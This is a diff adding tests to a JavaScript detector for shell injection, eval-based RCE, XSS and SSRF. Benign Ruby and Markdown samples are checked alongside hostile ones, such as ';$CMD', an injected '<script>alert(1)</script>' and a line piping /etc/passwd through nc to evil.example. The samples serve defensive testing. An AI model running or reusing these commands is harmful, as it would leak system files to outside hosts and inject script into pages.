@@ -477,3 +477,17 @@ t.test('JSON configurations: climbs to the project\'s own files, regex keys and 
   t.same(json({ 'image.url': 'http://127.0.0.1/' }), ['ssrf'], 'a field named for a URL with a dot in its name')
   t.same(q('11.5.1', 'webhook_url'), ['ssrf'], 'a short address under a URL field')
 })
+
+t.test('code and Markdown: block parameters, $0, an object\'s eval, comment lines, fragments cut inside a fenced block', async (t) => {
+  for (const p of ['Dir.glob(pattern) do |file|', 'routes.each do |route|', 'app = lambda { |env|', 'items.each { |a, *rest, &blk| a }', 'set :app_file, caller_files.first || $0']) t.notOk(shellInjection(p.toLowerCase()), p)
+  for (const p of ['x |id|', 'a do|id', ';$CMD', 'x || $cmd', "'|id|'"]) t.ok(shellInjection(p.toLowerCase()), p)
+  t.same(q("captured = block.binding.eval('@_out_buf')", 'snippet'), [], 'an object\'s eval method')
+  t.ok(q("eval('ls')").includes('rce'), 'eval itself still counts')
+  const ruby = "class Helpers\n  # Check if a block was defined, for example:\n  #   <script type=\"text/javascript\" src=\"/foo.js\"></script>\n  def content_for?(key)\n    blocks[key]\n  end\n\n  def engine\n    erb '<%= 1 + 1 %>'\n  end\nend"
+  t.same(json({ snippet: ruby }), [], 'a program\'s comment lines and a template in its string literals')
+  t.same(json({ snippet: ruby.replace('<%= 1 + 1 %>', "' + params[:x] + '<script>alert(1)</script>") }), ['xss'], 'markup outside its comments is judged')
+  t.same(json({ body: '# Add back the files\necho "$FILES" | xargs git add\n```\n\nThen add this hook:\n\n```sh\ngit update-index -g\n```' }), [], 'a fragment that starts inside a fenced block')
+  t.same(json({ body: '### Open source\n\nText of the page.\n\n<a class="button" href="https://tidelift.c' }), [], 'a Markdown page cut inside its last link')
+  t.same(q('<img src="//evil.example/?'), ['xss'], 'dangling markup outside Markdown')
+  t.ok(json({ body: '# Notes\n\nx; cat /etc/passwd | nc evil.example 80\n\n```sh\nls\n```' }).includes('rce'), 'what precedes a block\'s opening fence is judged')
+})
